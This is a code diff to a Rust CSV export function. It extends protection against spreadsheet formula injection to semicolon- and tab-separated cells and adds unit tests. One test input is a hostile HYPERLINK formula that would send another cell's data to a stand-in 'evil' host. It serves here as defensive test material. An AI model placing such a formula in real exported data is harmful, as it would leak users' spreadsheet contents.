@@ -114,12 +114,33 @@ fn shown(found: &Found, column: &str) -> String {
     }
 }
 
+/// What begins a formula, also in the full width of East Asian typing.
+const FORMULA: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
+
 /// A cell in quotation marks. Spreadsheets take what begins so for a formula, also inside of quotation marks, and people choose names and browsers
 /// choose what they are called: an apostrophe makes it a text (OWASP, "CSV Injection").
+///
+/// Where a semicolon separates cells, as in the spreadsheets of half of Europe, or a tab, a row of ours is cut at those inside of cells, and what
+/// stands behind begins a cell: it gets an apostrophe too, whatever blanks and quotation marks it has before it. The line `sep=,` would tell one
+/// spreadsheet the separator, and be a first row that is none to every other program.
 fn cell(text: &str) -> String {
-    let guard =
-        if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']) { "'" } else { "" };
-    format!("\"{guard}{}\"", text.replace('"', "\"\""))
+    let mut cell = String::with_capacity(text.len() + 2);
+    cell.push('"');
+    if text.starts_with(FORMULA) || text.starts_with(['\t', '\r', '\n']) {
+        cell.push('\'');
+    }
+    let mut rest = text;
+    while let Some(at) = rest.find([';', '\t', '\r', '\n']) {
+        let (before, behind) = rest.split_at(at + 1);
+        cell.push_str(&before.replace('"', "\"\""));
+        if behind.trim_start_matches([' ', '"', '\u{a0}', '\u{3000}']).starts_with(FORMULA) {
+            cell.push('\'');
+        }
+        rest = behind;
+    }
+    cell.push_str(&rest.replace('"', "\"\""));
+    cell.push('"');
+    cell
 }
 
 #[cfg(test)]
@@ -141,8 +162,13 @@ mod tests {
             ("+1", "\"'+1\""),
             ("-1", "\"'-1\""),
             ("@SUM(A1)", "\"'@SUM(A1)\""),
-            ("\t=1", "\"'\t=1\""),
-            ("\r\n=1", "\"'\r\n=1\""),
+            ("\t=1", "\"'\t'=1\""),
+            ("\r\n=1", "\"'\r\n'=1\""),
+            ("x;=HYPERLINK(\"http://evil/?\"&B1;\"i\")", "\"x;'=HYPERLINK(\"\"http://evil/?\"\"&B1;\"\"i\"\")\""),
+            ("x; +1", "\"x;' +1\""),
+            ("x;\"-1", "\"x;'\"\"-1\""),
+            ("x\t@a\r-1\n＝2", "\"x\t'@a\r'-1\n'＝2\""),
+            ("Mozilla/5.0 (X11; Linux; rv:1) a=b; c-d", "\"Mozilla/5.0 (X11; Linux; rv:1) a=b; c-d\""),
             ("a,b\r\n\"c\"", "\"a,b\r\n\"\"c\"\"\""),
             ("", "\"\""),
         ] {
